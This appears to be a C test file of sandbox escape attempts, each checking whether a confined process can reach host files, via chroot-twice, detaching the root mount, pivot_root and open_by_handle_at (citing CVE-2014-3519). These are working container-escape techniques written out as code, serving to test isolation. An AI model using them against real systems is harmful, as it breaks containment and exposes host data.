/* Attacks on the root directory of a sandbox, by one who may still change it. */
#define _GNU_SOURCE
#include "attack.h"
#include <fcntl.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Whether a file that only the host has is there now. */
static int reached(const char *file) {
    if (access(file, R_OK) == 0) return 0;
    return stopped(file);
}

/* Out of a chroot by another one below the working directory. The argument is a file of the host's. */
ATTACK("chroot-twice", chroot_twice);
static int chroot_twice(int argc, char **argv) {
    if (argc < 2) return 3;
    char below[] = "/tmp/chroot-XXXXXX";
    int here = open("/", O_RDONLY | O_DIRECTORY);
    if (here < 0 || !mkdtemp(below)) return broken("mkdtemp");
    if (chroot(below) != 0) return stopped("chroot");
    if (fchdir(here) != 0) return stopped("fchdir");
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0) return stopped("chdir(..)");
    if (chroot(".") != 0) return stopped("chroot(.)");
    return reached(argv[1]);
}

/* What lies below the root mount shows when that is unmounted, and one's own mount namespace entered anew. */
ATTACK("root-unmount", root_unmount);
static int root_unmount(int argc, char **argv) {
    if (argc < 2) return 3;
    int own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (own < 0) return broken("/proc/self/ns/mnt");
    if (umount2("/", MNT_DETACH) != 0) return stopped("umount2(/, MNT_DETACH)");
    if (setns(own, CLONE_NEWNS) != 0) return stopped("setns");
    return reached(argv[1]);
}

/* A root of one's own choice in the place of this one. */
ATTACK("pivot-root", pivot);
static int pivot(int argc, char **argv) {
    (void)argc, (void)argv;
    if (unshare(CLONE_NEWNS) != 0 && errno != EPERM) return broken("unshare");
    if (mount("/tmp", "/tmp", NULL, MS_BIND, NULL) != 0) return stopped("mount(/tmp, MS_BIND)");
    if (mkdir("/tmp/old", 0700) != 0 && errno != EEXIST) return broken("mkdir");
    return syscall(SYS_pivot_root, "/tmp", "/tmp/old") == 0 ? 0 : stopped("pivot_root");
}

/* A file by its number on a file system that is shown in part. Arguments: "make" FILE HANDLE, "open" DIRECTORY HANDLE. CVE-2014-3519 */
ATTACK("by-handle", by_handle);
static int by_handle(int argc, char **argv) {
    if (argc < 4) return 3;
    _Alignas(struct file_handle) char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *handle = (struct file_handle *)room;
    handle->handle_bytes = MAX_HANDLE_SZ;
    if (strcmp(argv[1], "make") == 0) {
        int mount_id, out = open(argv[3], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (name_to_handle_at(AT_FDCWD, argv[2], handle, &mount_id, 0) != 0) return broken("name_to_handle_at");
        return write(out, room, sizeof room) == sizeof room ? 0 : broken(argv[3]);
    }
    int in = open(argv[3], O_RDONLY), there = open(argv[2], O_RDONLY | O_DIRECTORY);
    if (in < 0 || there < 0 || read(in, room, sizeof room) != sizeof room) return broken(argv[3]);
    int file = open_by_handle_at(there, handle, O_RDONLY);
    if (file < 0) return stopped("open_by_handle_at");
    char text[7] = "";
    return read(file, text, 6) == 6 && strcmp(text, "secret") == 0 ? 0 : broken("read");
}
